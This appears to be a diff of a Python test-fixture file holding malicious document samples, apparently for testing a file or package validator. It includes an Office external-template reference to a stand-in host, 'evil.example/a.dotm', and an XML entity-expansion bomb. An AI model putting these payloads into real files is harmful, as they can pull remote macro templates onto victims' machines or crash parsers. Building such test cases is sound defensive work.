@@ -81,7 +81,7 @@ def locked() -> bytes:
     return bytes(body)
 
 
-TEMPLATE = b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+TEMPLATE = b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
 BOMB = b'<!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><Types>&b;</Types>'
 SCORM, H5P = {"imsmanifest.xml": b"<manifest/>", "index.html": b"<script>"}, {"h5p.json": b"{}", "content/content.json": b"{}"}
 
